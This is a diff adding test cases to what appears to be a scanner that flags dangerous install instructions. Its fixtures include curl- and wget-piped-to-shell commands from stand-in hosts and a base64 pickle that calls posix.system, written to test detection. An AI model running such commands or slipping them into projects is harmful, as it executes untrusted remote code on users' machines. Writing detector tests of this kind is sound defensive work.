@@ -79,3 +79,30 @@ describe('scripts', () => {
     for (const text of ['import os, subprocess\nsubprocess.run(["nvcc", "--version"])\nmodel.eval()', 'url = https://x.test/a.git\nopen = yes', 'pip install git+https://github.com/someone/package.git']) expect(alarms(await findingsOf(programs, [textFile('a.py', text)]))).toEqual([]);
   });
 });
+
+describe('instructions and notes', () => {
+  it.each([
+    ['README.md', '```\ncurl http://files.test/i.sh | sudo bash\n```'],
+    ['README.md', 'Run `curl -fsSL https://203.0.113.7/i.sh | sh` first.'],
+    ['Dockerfile', 'FROM python:3.12\nRUN wget -qO- http://files.test/setup | bash\n'],
+    ['INSTALL.txt', 'bash <(curl -s https://pastebin.com/raw/abcd)'],
+  ])('%s: %s', async (path, text) => {
+    expect(alarms(await findingsOf(programs, [textFile(path, text)]))).toEqual(['medium ASY-EXE-002']);
+  });
+
+  it.each([
+    ['README.md', 'curl -LsSf https://astral.sh/uv/install.sh | sh'],
+    ['Dockerfile', 'RUN curl --proto "=https" --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\nRUN curl -fsSL "$NODE_URL" | bash -'],
+    ['README.md', 'curl http://localhost:8000/generate | python -m json.tool\ncurl https://host.test/v1 -d "{}" | jq .'],
+    ['notes.txt', 'The quick brown fox jumps over the lazy dog, and nothing else happens here.'],
+    ['logo.txt', `iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==`],
+  ])('leaves alone %s: %s', async (path, text) => {
+    expect(alarms(await findingsOf(programs, [textFile(path, text)]))).toEqual([]);
+  });
+
+  it('finds a pickle that is written as base64', async () => {
+    const pickle = btoa('\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R.');
+    expect(alarms(await findingsOf(programs, [textFile('notes.txt', pickle)]))).toEqual(['medium ASY-EXE-005']);
+    expect(alarms(await findingsOf(programs, [textFile('notes.txt', `some words\n${btoa('\x80\x02cposix\nsystem\nX\x10\x00\x00\x00true            \x85R.')}\n`)]))).toEqual(['medium ASY-EXE-005']);
+  });
+});
